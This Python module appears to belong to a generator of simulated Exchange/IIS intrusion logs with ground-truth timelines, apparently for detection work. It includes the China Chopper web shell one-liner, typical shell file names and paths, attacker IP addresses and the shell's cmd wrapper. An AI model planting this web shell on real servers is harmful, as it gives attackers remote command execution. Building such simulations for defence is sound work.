"""What every attack timeline shares: the web shell it plants or uses, attacker constants, and
Timeline (truth steps, jitter, requests to the shell, China Chopper commands)."""

from . import world as W
from .clock import iso

S32 = W.S32
CHOPPER = ('http://f/<script language="JScript" runat="server">function Page_Load()'
           '{{eval(Request["{pw}"],"unsafe");}}</script>')
SHELL_NAMES = ("RedirSuiteServerProxy.aspx", "OutlookEN.aspx", "errorEE.aspx", "supp0rt.aspx",
               "discover.aspx", "ohyeah.aspx", "one.aspx", None)  # None: 8 random letters
CHROME65 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/65.0.2345 Safari/537.36")
CHROME88 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/88.0.4324.182 Safari/537.36")
# Addresses of the helsecert incident, then made-up ones from documentation ranges.
ATTACKER_IPS = ("130.255.189.21", "139.162.202.236", "67.205.176.9", "203.0.113.47",
                "198.51.100.23", "203.0.113.188")
EXFIL_IPS = ("198.51.100.77", "203.0.113.91", "192.0.2.144")


def plan_shell(rng, name=None, folder="owa"):
    """A web shell: URL path, file path on the server, and the IIS application pool serving it."""
    if name is None:
        name = rng.choice(SHELL_NAMES) or ("".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                                                   for _ in range(8)) + ".aspx")
    if folder == "owa":
        return {"url": f"/owa/auth/{name}", "path": f"{W.FRONTEND}\\owa\\auth\\{name}",
                "dir": f"{W.FRONTEND}\\owa\\auth", "pool": "MSExchangeOWAAppPool",
                "password": "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(3)) +
                str(rng.randint(100000, 999999))}
    return {"url": f"/aspnet_client/system_web/{name}",
            "path": f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{name}",
            "dir": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web", "pool": "DefaultAppPool",
            "password": "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6))}


class Timeline:
    """Helpers every attack uses; `truth` collects the steps."""

    def __init__(self, em, rng, ctx, truth):
        self.em, self.rng, self.ctx, self.truth = em, rng, ctx, truth
        self.host = em.host

    def step(self, t, step, what, log, cve="", technique=""):
        self.truth.append({"time": iso(t), "host": self.host.name, "attack": self.ctx["name"],
                           "attack_index": self.ctx["index"], "step": step, "what": what,
                           "log": log, "cve": cve, "technique": technique})

    def jitter(self, ms, spread=0.2):
        return int(ms * self.rng.uniform(1 - spread, 1 + spread))

    def shell_request(self, t, method="POST", ip=None, ua=None, status=200):
        """A request for the web shell (IIS line, plus the HttpProxy OWA row for /owa/ shells)."""
        shell = self.ctx["shell"]
        ip = ip or self.ctx["ip"]
        ua = ua or self.ctx.get("ua", CHROME65)
        owa = shell["url"].startswith("/owa/")
        self.em.web(t, method, shell["url"], "", "", ip, ua, status, "Owa" if owa else None,
                    {"ProxyAction": "", "TargetServer": "", "AuthenticationType": "Anonymous"},
                    exchange_module=owa, owa_encoding=owa,
                    cs_bytes=self.rng.randint(300, 2400) if method == "POST" else None,
                    time_taken=self.rng.randint(30, 400))

    def shell_cmd(self, t, command, child_image=None, child_cmdline=None):
        """China Chopper runs `cmd /c cd /d "<dir>"&<command>&echo [S]&cd&echo [E]` in the worker
        process of the shell's application pool; returns (cmd Proc, child Proc or None)."""
        host, rng = self.host, self.rng
        shell = self.ctx["shell"]
        w3wp = host.procs[shell["pool"]]
        cmd = host.spawn(rng, w3wp, S32 + "cmd.exe",
                         f"cmd /c cd /d \"{shell['dir']}\"&{command}&echo [S]&cd&echo [E]",
                         cwd=S32 + "inetsrv\\")
        self.em.process_start(t, w3wp, cmd)
        child = None
        if child_image:
            child = host.spawn(rng, cmd, child_image, child_cmdline or command,
                               cwd=shell["dir"] + "\\")
            self.em.process_start(t + rng.randint(15, 60), cmd, child)
        return cmd, child

    def via_shell(self, t, command, child_image=None, child_cmdline=None):
        """POST to the shell, then the command 0.5-2 s later. Returns (cmd start time, child
        Proc or None)."""
        self.shell_request(t)
        t += self.rng.randint(500, 2000)
        _, child = self.shell_cmd(t, command, child_image, child_cmdline)
        return t, child
